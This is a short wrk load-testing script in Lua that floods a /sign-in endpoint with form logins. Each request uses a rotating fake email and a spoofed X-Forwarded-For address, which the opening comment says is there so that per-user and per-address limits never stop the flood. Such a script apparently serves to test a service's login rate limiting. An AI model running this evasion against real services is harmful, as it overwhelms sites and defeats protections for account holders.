-- For wrk: sign-ins of ever other people from ever other addresses, so that no limit of one of them stops the storm.

local count = 0

function request()
   count = count + 1
   local address = string.format("10.%d.%d.%d", count / 65536 % 256, count / 256 % 256, count % 256)
   local body = string.format("email=person-%d%%40example.org&password=a+long+enough+guess&next=", count % 1000)
   return wrk.format("POST", "/sign-in", {
      ["Host"] = wrk.headers["Host"], ["Sec-Fetch-Site"] = "same-origin", ["X-Forwarded-For"] = address,
      ["Content-Type"] = "application/x-www-form-urlencoded" }, body)
end
